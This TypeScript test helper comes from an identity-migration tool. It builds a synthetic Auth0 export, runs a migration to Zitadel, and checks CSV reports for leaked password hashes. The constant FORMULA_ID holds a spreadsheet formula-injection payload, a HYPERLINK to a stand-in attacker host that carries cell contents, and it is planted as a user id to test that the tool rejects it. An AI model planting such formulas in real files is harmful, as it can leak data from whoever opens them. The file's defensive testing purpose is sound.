// Shared by the report e2e tests: a synthetic Auth0 export migrated to import bodies on disk, the
// CSV lists read back, and every password hash of the export (none may appear in a shareable file).
import { appendFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type GeneratedExport, generateAuth0Export } from '@idflow/fixtures';
import { parse } from 'csv-parse/sync';
import { e2ePipelines, writePipeline } from './helpers.js';

/** A profile whose id a spreadsheet would run as a formula; it has no e-mail, so it is refused. */
export const FORMULA_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** `users` synthetic users (edge cases included) in `<dir>/export`, plus the formula profile. */
export async function exportWithEdgeCases(dir: string, users: number): Promise<GeneratedExport> {
  const generated = await generateAuth0Export({ dir: join(dir, 'export'), users, seed: 31, formats: ['ndjson'] });
  appendFileSync(generated.profiles.ndjson!, `\n${JSON.stringify({ user_id: FORMULA_ID, name: "+1 (555) 0100" })}\n`);
  return generated;
}

/**
 * `migrate.yaml` in `dir`: the export → mapping → (optional throttle) → hash and field checks →
 * import bodies in `out/`, with a dead-letter file and a checkpoint.
 */
export function writeMigrationPipeline(dir: string, throttle?: { every: number; delayMs: number }): string {
  return writePipeline(dir, 'migrate.yaml', [
    'version: 1',
    'name: report-e2e',
    `plugins: [${JSON.stringify(join(e2ePipelines, 'throttle.mjs'))}]`,
    'source: { use: auth0, with: { profiles: export/profiles.ndjson, passwords: export/passwords.ndjson } }',
    'transforms:',
    '  - { use: field-mapper, with: { preset: auth0-to-zitadel } }',
    `  - { use: e2e-throttle, with: { every: ${throttle?.every ?? 1000}, delayMs: ${throttle?.delayMs ?? 0} } }`,
    '  - { use: hash-validator, with: { allow: [bcrypt, pbkdf2, md5plain] } }',
    '  - { use: zitadel-validate }',
    'sink: { use: zitadel-file, with: { dir: out/bodies, orgId: "200000000000000001", batchSize: 500 } }',
    'dlq: { path: out/dead-letter.ndjson }',
    'checkpoint: { path: out/checkpoint.json }',
  ]);
}

/** The rows of a CSV list (header first), as a spreadsheet reads them. */
export function readCsv(path: string): string[][] {
  return parse(readFileSync(path, 'utf8'), { relaxColumnCount: false }) as string[][];
}

/** Every hash of the export's password file (non-empty, parseable lines). */
export function passwordHashes(generated: GeneratedExport): string[] {
  const hashes: string[] = [];
  for (const line of readFileSync(generated.passwords, 'utf8').split('\n')) {
    try {
      const hash = (JSON.parse(line) as { passwordHash?: unknown }).passwordHash;
      if (typeof hash === 'string' && hash.length > 0) hashes.push(hash);
    } catch {
      // A malformed line on purpose: the check is on the parsed hashes.
    }
  }
  return hashes;
}

/** The hashes of `hashes` found in `text` (the distinctive part after the algorithm prefix). */
export function leakedHashes(text: string, hashes: readonly string[]): string[] {
  return hashes.filter((hash) => text.includes(hash.length > 24 ? hash.slice(-22) : hash));
}
